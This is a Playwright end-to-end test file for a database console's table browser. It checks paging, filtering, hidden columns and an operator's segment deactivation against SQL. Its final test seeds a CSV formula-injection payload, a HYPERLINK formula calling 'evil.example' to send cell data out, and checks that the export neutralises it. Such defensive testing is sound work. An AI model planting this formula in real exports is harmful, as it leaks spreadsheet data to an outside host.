/**
 * The table-browser paths no other spec walks: tables keyed by text (cache_metadata, user_segments) paged forward
 * and back, the boolean filter, hidden columns kept in the URL, and an operator's segment toggle on the insights
 * page — each checked against SQL on the same database.
 */
import { readFile } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';
import { signIn } from './support/auth';
import { ensureUser, withDb } from './support/db';
import { E2E } from './support/settings';

const EXTRA_SEGMENTS = 120;

test.beforeAll(async () => {
  // The demo data has too few segments for more than one page; these make three, and go again afterwards.
  await withDb((client) =>
    client.query(
      `INSERT INTO user_segments (segment_id, segment_name, criteria, active)
       SELECT 'e2e-seg-' || lpad(g::text, 3, '0'), 'E2E segment ' || g, jsonb_build_object('plan', 'e2e'), g % 3 <> 0
       FROM generate_series(1, $1::int) AS g
       ON CONFLICT (segment_id) DO NOTHING`,
      [EXTRA_SEGMENTS],
    ),
  );
});

test.afterAll(async () => {
  await withDb((client) => client.query(`DELETE FROM user_segments WHERE segment_id LIKE 'e2e-seg-%'`));
});

const rows = (page: Page) => page.getByTestId('browser-rows').locator('tbody tr');

/** The primary key of row `offset` of the table in the browser's order for its default sort. */
async function keyAt(table: 'user_segments' | 'cache_metadata', offset: number): Promise<string> {
  const order = table === 'user_segments' ? 'segment_id ASC' : 'expires_at DESC, cache_key DESC';
  const key = table === 'user_segments' ? 'segment_id' : 'cache_key';
  return withDb(
    async (client) =>
      (await client.query(`SELECT ${key} AS key FROM ${table} ORDER BY ${order} OFFSET $1 LIMIT 1`, [offset])).rows[0]
        .key,
  );
}

for (const table of ['user_segments', 'cache_metadata'] as const) {
  test(`${table}, keyed by text, pages forward and back by its key`, async ({ page }) => {
    await signIn(page, E2E.admin);
    await page.goto(`/tables/${table}`);
    await expect(rows(page).first()).toHaveAttribute('data-key', await keyAt(table, 0));
    await page.getByRole('link', { name: 'Next' }).click();
    await expect(page).toHaveURL(/after=/);
    await expect(rows(page).first()).toHaveAttribute('data-key', await keyAt(table, 50));
    await expect(rows(page).last()).toHaveAttribute('data-key', await keyAt(table, 99));
    await page.getByRole('link', { name: 'Next' }).click();
    await expect(rows(page).first()).toHaveAttribute('data-key', await keyAt(table, 100));
    await page.getByRole('link', { name: 'Previous' }).click();
    await expect(page).toHaveURL(/before=/);
    await expect(rows(page).first()).toHaveAttribute('data-key', await keyAt(table, 50));
    await page.getByRole('link', { name: 'Previous' }).click();
    await expect(rows(page).first()).toHaveAttribute('data-key', await keyAt(table, 0));
  });
}

test('the boolean filter keeps exactly the rows SQL keeps', async ({ page }) => {
  await signIn(page, E2E.admin);
  await page.goto('/tables/user_segments');
  const filters = page.getByRole('form', { name: 'Add a filter' });
  await filters.getByLabel('Column').selectOption('active');
  await filters.getByLabel('Value').selectOption('false');
  await filters.getByRole('button', { name: 'Add filter' }).click();
  await expect(page).toHaveURL(/f=active%3Ais%3Afalse/);
  const inactive = await withDb(async (client) =>
    Number((await client.query('SELECT count(*) AS n FROM user_segments WHERE active = false')).rows[0].n),
  );
  expect(inactive).toBeGreaterThan(0);
  await expect(page.getByTestId('row-count')).toHaveText(`${inactive.toLocaleString('en')} rows`);
  const firstInactive = await withDb(
    async (client) =>
      (await client.query('SELECT segment_id FROM user_segments WHERE active = false ORDER BY segment_id LIMIT 1'))
        .rows[0].segment_id,
  );
  await expect(rows(page).first()).toHaveAttribute('data-key', firstInactive);
});

test('hidden columns stay hidden in the URL, across pages and a reload', async ({ page }) => {
  await signIn(page, E2E.admin);
  await page.goto('/tables/user_segments');
  const headers = page.getByTestId('browser-rows').getByRole('columnheader');
  await expect(headers.filter({ hasText: 'criteria' })).toHaveCount(1);
  await page.getByText('Columns', { exact: true }).click();
  await page.getByRole('link', { name: 'hide criteria' }).click();
  await expect(page).toHaveURL(/hide=criteria/);
  await expect(headers.filter({ hasText: 'criteria' })).toHaveCount(0);
  await page.getByRole('link', { name: 'Next' }).click();
  await expect(page).toHaveURL(/hide=criteria/);
  await page.reload();
  await expect(headers.filter({ hasText: 'segment_name' })).toHaveCount(1);
  await expect(headers.filter({ hasText: 'criteria' })).toHaveCount(0);
});

test('an operator deactivates a segment from the insights page; the row and the audit log say so', async ({ page }) => {
  await ensureUser(E2E.operator, 'operator');
  await signIn(page, E2E.operator);
  await withDb((client) => client.query(`UPDATE user_segments SET active = true WHERE segment_id = 'e2e-seg-001'`));
  await page.goto('/tables/user_segments/insights');
  const row = page.getByRole('row').filter({ hasText: 'e2e-seg-001' });
  page.once('dialog', (dialog) => dialog.accept());
  await row.getByRole('button', { name: 'Deactivate' }).click();
  await expect(row.getByRole('button', { name: 'Activate' })).toBeVisible();
  // The row can show the new state from a refresh a moment before the action's own answer arrives: the write is
  // awaited rather than assumed.
  await expect
    .poll(() =>
      withDb(
        async (client) =>
          (await client.query(`SELECT active FROM user_segments WHERE segment_id = 'e2e-seg-001'`)).rows[0].active,
      ),
    )
    .toBe(false);
  const audit = await withDb(
    async (client) =>
      (
        await client.query(
          `SELECT actor_email, before, after FROM console.audit_event WHERE action = 'user_segments.deactivate' AND target = 'user_segments:e2e-seg-001' ORDER BY id DESC LIMIT 1`,
        )
      ).rows[0],
  );
  expect(audit).toMatchObject({ actor_email: E2E.operator.email, before: { active: true }, after: { active: false } });
});

test('an exported cell a spreadsheet would run as a formula is neutralised', async ({ page }) => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
  await withDb((client) =>
    client.query(
      `INSERT INTO scheduled_content (content_id, channel, scheduled_time, status, error_message) VALUES ('e2e-csv-formula', 'email', localtimestamp, 'failed', $1)
       ON CONFLICT (content_id) DO UPDATE SET error_message = EXCLUDED.error_message`,
      [formula],
    ),
  );
  try {
    await signIn(page, E2E.admin);
    await page.goto('/tables/scheduled_content?f=content_id%3Aeq%3Ae2e-csv-formula');
    const downloadPromise = page.waitForEvent('download');
    await page.getByRole('link', { name: 'Export CSV' }).click();
    const csv = await readFile((await (await downloadPromise).path())!, 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  } finally {
    await withDb((client) => client.query(`DELETE FROM scheduled_content WHERE content_id = 'e2e-csv-formula'`));
  }
});
